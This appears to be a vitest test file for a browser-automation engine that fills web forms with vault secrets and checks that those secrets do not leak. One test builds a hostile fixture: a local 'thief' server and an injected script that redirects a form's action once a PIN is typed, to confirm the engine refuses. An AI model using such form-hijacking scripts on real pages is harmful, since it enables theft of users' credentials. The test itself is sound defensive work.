import { createServer } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { listAuditRecords } from '@/lib/audit-log/list-audit-records';
import { readArtifact } from '@/lib/runs/read-artifact';
import { createEntry } from '@/lib/vault/create-entry';
import { createWorkflow } from '@/lib/workflows/create-workflow';
import { startHtmlPages } from '@/tests/support/html-pages';
import { type Steps, type StepWorld, startStepWorld } from '@/tests/support/step-world';

const PIN = '081542-canary';

const FORM = `<h1>Order</h1>
  <form method="post" action="/done">
    <label>Customer <input id="customer" name="customer"></label>
    <label>PIN <input id="pin" name="pin"></label>
    <select id="size" name="size"><option value="s">Small</option><option value="l">Large</option></select>
    <button id="send">Send</button>
  </form>
  <button id="later" onclick="setTimeout(() => { document.getElementById('note').hidden = false }, 300)">Later</button>
  <p id="note" hidden>Now it is here</p>
  <p class="row">one</p><p class="row">two</p>
  <a id="report" href="/report">Report</a> <a id="leak" href="/leak">Leak</a>`;

const file = (text: string) => () => ({
  html: text,
  headers: { 'content-type': 'text/csv', 'content-disposition': 'attachment; filename="report.csv"' },
});

let world: StepWorld;

beforeAll(async () => {
  world = await startStepWorld(
    { '/': FORM, '/report': file('number,amount\n1,20'), '/leak': file(`pin,${PIN}`) },
    { pin: PIN },
  );
});
afterAll(() => world?.close());
beforeEach(() => world.forgetRequests());

describe('a form is filled and sent', () => {
  test('with an input variable, an option and a further secret, of which no history tells', async () => {
    const result = await world.run(
      [
        { action: 'fill', selector: '#customer', value: 'No. {{input.customer}} & co' },
        { action: 'fill', selector: '#pin', secret: 'USER.pin' },
        { action: 'select', selector: '#size', value: 'Large' },
        { action: 'extract', fields: { pin: { selector: '#pin' } } },
        { action: 'screenshot', name: 'filled' },
        { action: 'click', selector: '#send' },
        { action: 'assert', selector: 'h1', text: 'Thank you' },
      ],
      {
        input_schema: {
          type: 'object',
          properties: { customer: { type: 'string' } },
          required: ['customer'],
        },
      },
      { customer: '4711' },
    );
    expect(result.errors).toEqual([]);
    expect(Object.fromEntries(world.sent())).toEqual({ customer: 'No. 4711 & co', pin: PIN, size: 'l' });
    expect(result.data).toEqual({ pin: '[secret]' });
    expect(JSON.stringify(result)).not.toContain(PIN);
    const records = await listAuditRecords(world.services, world.actor, { object: world.entryId, limit: 10 });
    const used = records.data.filter(({ detail }) => detail?.run_id === result.id).reverse();
    expect(used).toMatchObject([
      { action: 'secret.resolved', detail: { parts: ['pin'], step: 3 } },
      { action: 'secret.filled', outcome: 'success', detail: { parts: ['pin'] } },
    ]);
    expect(JSON.stringify(records)).not.toContain(PIN);
  });

  test('by a key', async () => {
    const steps: Steps = [
      { action: 'fill', selector: '#customer', value: 'a' },
      { action: 'press', key: 'Enter' },
      { action: 'wait_for', selector: 'h1:has-text("Thank you")' },
    ];
    expect((await world.run(steps)).status).toBe('success');
    expect(world.sent().get('customer')).toBe('a');
  });
});

describe('a further secret', () => {
  test('is not typed into a page of another site', async () => {
    const other = world.elsewhere.url.replace('127.0.0.1', 'localhost');
    const result = await world.run([
      { action: 'goto', url: `${other}/` },
      { action: 'fill', selector: '#pin', secret: 'USER.pin' },
    ]);
    expect(result.errors[0]).toMatchObject({ code: 'ORIGIN_REFUSED', step_index: 2 });
    expect(JSON.stringify(result)).not.toContain(PIN);
  });

  test('is not sent elsewhere by a form that was changed after it was filled', async () => {
    const thief = createServer((_request, response) => response.end('got it'));
    let stolen = 0;
    thief.on('request', () => {
      stolen += 1;
    });
    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
    const address = thief.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    const turning = await startHtmlPages({
      '/': `${FORM}<script>document.getElementById('pin').addEventListener('input', () =>
        document.forms[0].setAttribute('action', 'http://localhost:${port}/'))</script>`,
    });
    const { id: providerId } = await world.connectServer(`turning ${port}`, 300);
    await createEntry(world.services, world.actor, {
      permissioned_user_id: 'turning',
      domain: turning.url,
      source: 'provider',
      secret_provider_id: providerId,
      secret_ref: world.refOf('Bank'),
      extra_secrets: { pin: 'op://Automation/Bank/Portal/PIN' },
    });
    const result = await world.run(
      [
        { action: 'goto', url: `${turning.url}/` },
        { action: 'fill', selector: '#pin', secret: 'USER.pin' },
        { action: 'click', selector: '#send' },
      ],
      { vault_schema: { USER: { type: 'credential', domain: turning.url } } },
      { USER: 'turning' },
    );
    expect(result.errors[0]).toMatchObject({ code: 'ORIGIN_REFUSED', step_index: 3 });
    expect(stolen).toBe(0);
    await turning.close();
    await new Promise((resolve) => thief.close(resolve));
  });

  test('that the entry does not have ends the run with the next step', async () => {
    const result = await world.run([{ action: 'fill', selector: '#pin', secret: 'USER.puk' }]);
    expect(result.errors[0]).toMatchObject({ code: 'EXTRA_SECRET_UNKNOWN', step_index: 1 });
    expect(result.errors[0]?.next_step).toContain('Field mapping');
  });
});

describe('an element', () => {
  test('that comes later is waited for, and one that must not be there is seen', async () => {
    const result = await world.run([
      { action: 'assert', selector: '#note', gone: true },
      { action: 'click', selector: '#later' },
      { action: 'wait_for', selector: '#note', within_seconds: 5 },
      { action: 'assert', selector: '#note', gone: true },
    ]);
    expect(result.errors[0]).toMatchObject({ code: 'ASSERTION_FAILED', step_index: 4 });
  });

  test.each([
    ['is one of several', '.row', 'ELEMENT_AMBIGUOUS'],
    ['is named in no language of selectors', '##', 'ELEMENT_BAD_SELECTOR'],
    ['cannot be filled', 'h1', 'ELEMENT_UNUSABLE'],
  ])('that %s ends the run with what is wrong', async (_what, selector, code) => {
    const [error] = (await world.run([{ action: 'fill', selector, value: 'x' }])).errors;
    expect(error).toMatchObject({ code, step_index: 1 });
    expect(error?.message).toContain(selector);
  });

  test('that does not come ends the run', async () => {
    const [error] = (await world.run([{ action: 'wait_for', selector: '#never', within_seconds: 1 }])).errors;
    expect(error).toMatchObject({
      code: 'ELEMENT_NOT_FOUND',
      message: 'The page has no visible element #never.',
    });
  });
});

describe('a download', () => {
  test('is kept with the run under its step’s name', async () => {
    const result = await world.run([{ action: 'download', selector: '#report', name: 'orders' }]);
    expect(result.errors).toEqual([]);
    const [file] = result.files;
    expect(file).toMatchObject({ name: 'orders.csv' });
    const kept = await readArtifact(world.services, world.actor, {
      kind: 'file',
      runId: result.id,
      artifactId: file?.id ?? '',
    });
    expect(kept.body.toString()).toBe('number,amount\n1,20');
  });

  test('is not kept when it holds a secret of the run', async () => {
    const result = await world.run([
      { action: 'fill', selector: '#pin', secret: 'USER.pin' },
      { action: 'download', selector: '#leak', name: 'leak' },
    ]);
    expect(result.errors[0]).toMatchObject({ code: 'SECRET_IN_FILE', step_index: 2 });
    expect(result.files).toEqual([]);
  });
});

test('a workflow says what is wrong with its steps before anything runs', async () => {
  const broken = createWorkflow(world.services, world.actor, {
    name: 'broken',
    steps: [
      { action: 'fill', selector: '#pin', secret: 'NOBODY.pin' },
      { action: 'select', selector: '#size', value: '{{input.size}}' },
      { action: 'tfa', credential: 'NOBODY', selector: '#code' },
    ],
  });
  await expect(broken).rejects.toMatchObject({
    code: 'validation_failed',
    details: {
      fields: [{ field: 'steps.0.secret' }, { field: 'steps.2.credential' }, { field: 'steps.1.value' }],
    },
  });
  const both = { action: 'fill' as const, selector: '#pin', value: 'x', secret: 'USER.pin' };
  await expect(createWorkflow(world.services, world.actor, { name: 'both', steps: [both] })).rejects.toThrow(
    'Give either a text or a secret',
  );
});
